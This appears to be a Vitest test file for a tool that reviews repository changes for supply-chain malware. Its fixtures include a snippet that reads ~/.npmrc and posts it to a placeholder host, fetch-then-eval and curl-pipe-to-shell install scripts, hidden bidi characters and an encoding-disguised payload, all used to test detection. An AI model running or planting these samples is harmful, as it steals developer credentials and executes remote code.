import { describe, expect, it } from "vitest";
import { reviewChange, rulesIn } from "./setting.ts";

const EVIL = `
const { readFileSync } = require("fs");
const os = require("os");
fetch("https://collect.example.invalid/a", { method: "POST", body: readFileSync(os.homedir() + "/.npmrc") });
`;
const MANIFEST = (scripts: Record<string, string>): string =>
  JSON.stringify({ name: "example", version: "1.0.0", scripts }, null, 2);

describe("what the base had already", () => {
  it("is not the change's: an unchanged file has no finding", async () => {
    const review = await reviewChange({ "a.js": EVIL }, { "a.js": EVIL, "README.md": "more" });
    expect(review.findings).toEqual([]);
  });

  it("is not the change's when lines only move", async () => {
    const review = await reviewChange({ "a.js": EVIL }, { "a.js": `// a comment\n\n${EVIL}` });
    expect(review.findings).toEqual([]);
  });

  it("is not the change's when the file is only renamed", async () => {
    const review = await reviewChange({ "a.js": EVIL }, { "lib/a.js": EVIL });
    expect(review.findings).toEqual([]);
  });

  it("is not the change's when a new file only stands beside it", async () => {
    const old = { "tests/a.test.js": EVIL, "README.md": "a library" };
    const review = await reviewChange(old, { ...old, "tests/b.test.js": "check(1);\n" });
    expect(review.findings).toEqual([]);
    const left = await reviewChange({ ...old, "tests/b.test.js": "check(1);\n" }, old);
    expect(left.findings).toEqual([]);
  });

  it("is not the change's when only the version of what is fetched grows", async () => {
    const fetching = (url: string) => ({
      "tools/get.js": `fetch("${url}").then((r) => r.text()).then((code) => eval(code));\n`,
    });
    const base = fetching("https://cdn.example.invalid/tool/1.9.2/run-1.9.2.js?from=1.0");
    const verdicts = async (url: string) => (await reviewChange(base, fetching(url))).verdict;
    const at = "https://cdn.example.invalid";
    expect(await verdicts(`${at}/tool/1.10.0-rc.1/run-1.10.0.js?from=1.0`)).toBe("clean");
    expect(await verdicts(`${at}/tool/1.10.0/other-1.10.0.js?from=1.0`)).toBe("malicious");
    expect(await verdicts(`${at}/tool/1.9.2/run-1.9.2.js?from=2.0`)).toBe("malicious");
    expect(await verdicts("https://cdn2.example.invalid/tool/1.9.2/run-1.9.2.js?from=1.0")).toBe(
      "malicious",
    );
  });

  it("is not the change's when the version also names where the download is kept", async () => {
    const fetching = (version: string, kept: string) => ({
      "package.json": MANIFEST({ postinstall: "sh tools/get.sh" }),
      "tools/get.sh": `curl -o tools/${kept}/where https://cdn.example.invalid/where/${version}/where && tools/${kept}/where\n`,
    });
    const verdict = async (version: string, kept: string) =>
      (await reviewChange(fetching("2.5.2", "2.5.2"), fetching(version, kept))).verdict;
    expect((await reviewChange({}, fetching("2.5.2", "2.5.2"))).verdict).not.toBe("clean");
    expect(await verdict("3.1.7", "3.1.7")).toBe("clean");
    expect(await verdict("3.1.7", "4.0.0")).not.toBe("clean");
  });

  it("counts again when there is more of it than before", async () => {
    const review = await reviewChange({ "a.js": EVIL }, { "a.js": `${EVIL}\n{${EVIL}}` });
    expect(rulesIn(review)).toContain("credentials/read-and-send");
  });

  it("counts when the destination changes", async () => {
    const moved = EVIL.replace("collect.", "other.");
    const review = await reviewChange({ "a.js": EVIL }, { "a.js": moved });
    expect(review.verdict).toBe("malicious");
    expect(review.findings[0]?.change).toBe("added");
  });
});

describe("a chain with one new link", () => {
  it("counts when a manifest starts an old file on install", async () => {
    const base = { "tools/a.js": EVIL, "package.json": MANIFEST({ test: "true" }) };
    const head = {
      ...base,
      "package.json": MANIFEST({ test: "true", postinstall: "node tools/a.js" }),
    };
    const review = await reviewChange(base, head);
    expect(review.verdict).toBe("malicious");
    expect(review.findings).toContainEqual(
      expect.objectContaining({ path: "tools/a.js", change: "escalated", triggers: ["install"] }),
    );
    expect(review.summary).toContain("tools/a.js");
    expect(review.summary).toContain("on install");
  });

  it("counts when a rename puts an old file where a tool loads it", async () => {
    const review = await reviewChange({ "notes/a.js": EVIL }, { "vite.config.js": EVIL });
    expect(review.findings[0]).toMatchObject({ change: "escalated", triggers: ["build"] });
  });

  it("is followed through unchanged files to the one that changed", async () => {
    const base = {
      "package.json": MANIFEST({ postinstall: "node scripts/start.js" }),
      "scripts/start.js": 'require("./middle.js");',
      "scripts/middle.js": 'require("../lib/end.js");',
      "lib/end.js": "module.exports = 1;",
    };
    const review = await reviewChange(base, { ...base, "lib/end.js": EVIL });
    expect(review.findings[0]).toMatchObject({ path: "lib/end.js", triggers: ["install"] });
    expect(review.executions).toContainEqual(
      expect.objectContaining({ path: "lib/end.js", trigger: "install", new: false }),
    );
  });

  it("names the secrets that come into reach of a script of an unchanged workflow", async () => {
    const workflow = [
      "on: push",
      "jobs:",
      "  a:",
      "    runs-on: ubuntu-latest",
      "    steps:",
      "      - run: sh scripts/ci.sh",
      "        env:",
      "          TOKEN: ${{ secrets.PUBLISH_TOKEN }}",
    ].join("\n");
    const base = { ".github/workflows/a.yml": workflow, "scripts/ci.sh": "echo one\n" };
    const review = await reviewChange(base, { ...base, "scripts/ci.sh": "echo two\n" });
    expect(review.verdict).toBe("clean");
    const run = review.executions.find((each) => each.path === "scripts/ci.sh");
    expect(run?.trigger).toBe("ci-secrets");
    expect(run?.secrets).toContain("PUBLISH_TOKEN");
  });
});

describe("the text around a change", () => {
  it.each(["title", "body", "branch"] as const)(
    "is searched for hidden characters: %s",
    async (part) => {
      const text = { [part]: "fix\u202e\u2066 this" };
      const review = await reviewChange({}, { "a.md": "text" }, { text });
      expect(review.findings.map((finding) => finding.path)).toEqual([`(${part})`]);
    },
  );

  it("is searched in commit messages", async () => {
    const text = { commitMessages: ["fine", "fix\u202e\u2066 this"] };
    const review = await reviewChange({}, { "a.md": "text" }, { text });
    expect(review.findings.map((finding) => finding.path)).toEqual(["(commit)"]);
  });
});

describe("what a checkout makes of a file", () => {
  it("is read as it will be: gibberish in an odd encoding is a shell script", async () => {
    // git writes this text out in IBM037, and then it reads
    // "curl https://x.example.invalid/a | sh".
    const gibberish =
      "\u00c4\u00cd\u00ca%\u0080\u00c7\u00c8\u00c8\u00f8\u00cb\u009a\u0007\u0007\u00cc\u0006\u00c1\u00cc/_\u00f8%\u00c1\u0006\u00d1>\u00ce/%\u00d1\u00c0\u0007/\u0080@\u0080\u00cb\u00c7\u008e";
    const manifest = MANIFEST({ postinstall: "sh setup.sh" });
    const attributes = "setup.sh working-tree-encoding=IBM037\n";
    const review = await reviewChange(
      {},
      { "package.json": manifest, "setup.sh": gibberish, ".gitattributes": attributes },
    );
    expect(review.verdict).not.toBe("clean");
    expect(rulesIn(review)).toContain("execution/download-and-run");
  });
});
